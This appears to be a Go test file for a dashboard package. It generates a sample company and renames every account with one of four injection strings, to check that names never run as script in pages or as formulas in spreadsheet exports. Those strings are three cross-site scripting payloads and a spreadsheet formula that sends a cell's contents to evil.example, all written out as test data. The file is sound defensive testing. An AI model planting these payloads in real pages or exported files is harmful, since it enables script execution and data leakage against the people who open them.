package dashboard

import (
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/precedent-dev/precedent/etl/generate"
	wh "github.com/precedent-dev/precedent/etl/warehouse"
	"github.com/precedent-dev/precedent/internal/fixture/company"
)

// testData is a warehouse built once for the package's tests from a small
// generated company whose account names are script-injection attempts.
var testData wh.Dir

// xssNames are account names that must never run as script anywhere,
// nor as a formula in a spreadsheet opening an export.
var xssNames = []string{
	`<script>alert(1)</script>`,
	`"};alert(1);//`,
	`</script><img src=x onerror=alert(1)>`,
	`=HYPERLINK("http://evil.example/?alert="&A1,"click")`,
}

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "precedent-dashboard-test")
	if err != nil {
		panic(err)
	}
	code := 1
	if err := buildTestData(dir); err != nil {
		fmt.Fprintln(os.Stderr, "build test warehouse:", err)
	} else {
		code = m.Run()
	}
	os.RemoveAll(dir)
	os.Exit(code)
}

// buildTestData generates a small company into dir, poisons its account
// names and loads it with the models.
func buildTestData(dir string) error {
	asOf := time.Date(2026, 11, 26, 0, 0, 0, 0, time.UTC)
	gen := generate.Options{Scale: 0.2, Seed: 3, AsOf: asOf, Effects: generate.DefaultEffects()}
	data, err := company.Company(context.Background(), dir, gen, func(src string) error {
		return poisonNames(filepath.Join(src, "accounts.csv"))
	})
	testData = data
	return err
}

// poisonNames gives every account a name that is an injection attempt.
func poisonNames(path string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	rows, err := csv.NewReader(f).ReadAll()
	f.Close()
	if err != nil {
		return err
	}
	for i := 1; i < len(rows); i++ {
		rows[i][1] = fmt.Sprintf("%s %d", xssNames[i%len(xssNames)], i)
	}
	out, err := os.Create(path)
	if err != nil {
		return err
	}
	w := csv.NewWriter(out)
	w.WriteAll(rows)
	if err := w.Error(); err != nil {
		out.Close()
		return err
	}
	return out.Close()
}
